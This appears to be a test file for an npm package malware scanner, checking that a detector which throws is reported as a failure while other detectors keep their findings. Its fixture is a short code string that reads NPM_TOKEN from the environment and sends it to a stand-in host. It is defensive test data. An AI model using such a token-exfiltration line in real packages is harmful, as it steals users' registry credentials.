// Per-detector isolation: a detector that throws on a file is recorded as "detector X failed on
// FILE" (a parse-error finding, so the package is never clean) and every other detector's findings
// for the file are kept. ctx.report is bound to the detector's own rules.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeSource } from '../../src/analyze/index.js';
import { DETECTORS } from '../../src/analyze/detectors/index.js';
import type { Detector } from '../../src/analyze/context.js';
import { scorePackage } from '../../src/risk/score.js';
import { packageUnit } from '../helpers.js';

const code = "const https = require('https');\nconst t = process.env.NPM_TOKEN;\nhttps.request({ host: 'x.invalid', headers: { t } });\n";
const job = { absPath: '/v/index.js', file: 'index.js', sourceType: 'commonjs' as const, packageName: 'p', size: code.length };

const thrower: Detector = {
  meta: { rules: ['eval'], triggers: ['process'] },
  create() {
    return {
      call() {
        throw new TypeError('boom');
      },
    };
  },
};

test('a throwing detector is a failure finding; the other detectors keep their findings', () => {
  const clean = analyzeSource(code, job, { prefilter: false });
  const r = analyzeSource(code, job, { prefilter: false, detectors: [...DETECTORS.slice(0, 5), thrower, ...DETECTORS.slice(5)] });
  const failures = r.findings.filter((f) => f.messageId === 'detectorFailed');
  assert.equal(failures.length, 1);
  assert.equal(failures[0].rule, 'parse-error');
  assert.equal(failures[0].detail, 'detector eval failed on index.js: TypeError: boom');
  assert.deepEqual(failures[0].data, { detector: 'eval', file: 'index.js', reason: 'TypeError: boom' });
  assert.equal(r.parseError, true, 'counted like an analysis failure');
  const others = r.findings.filter((f) => f.messageId !== 'detectorFailed');
  assert.deepEqual(others.map((f) => `${f.rule}:${f.detail}`).sort(), clean.findings.map((f) => `${f.rule}:${f.detail}`).sort());
  assert.ok(others.some((f) => f.rule === 'exfiltration'), 'a detector after the failing one still reports');

  // scored like any analysis failure: the package is not clean and says why
  const pkg = scorePackage(packageUnit({ name: 'p' }), r.findings.map((f) => ({ ...f })));
  assert.ok(pkg.reasons.some((x) => /could not analyse 1 file/.test(x)));
});

test('a detector may only report its own rules', () => {
  const liar: Detector = {
    meta: { rules: ['eval'], triggers: ['process'] },
    create(ctx) {
      return { 'Program:exit': () => ctx.report(0, 'module', { module: 'https' }, { rule: 'network' }) };
    },
  };
  const r = analyzeSource(code, job, { prefilter: false, detectors: [liar] });
  assert.deepEqual(r.findings.map((f) => f.detail), ['detector eval failed on index.js: a detector of eval reported network']);
});

test('a detector that throws while being created fails alone too', () => {
  const broken: Detector = { meta: { rules: ['obfuscation'], triggers: [] }, create: () => { throw new Error('no'); } };
  const r = analyzeSource(code, job, { prefilter: false, detectors: [broken, ...DETECTORS] });
  assert.ok(r.findings.some((f) => f.detail === 'detector obfuscation failed on index.js: no'));
  assert.ok(r.findings.some((f) => f.rule === 'env-read' && f.detail === 'NPM_TOKEN'));
});
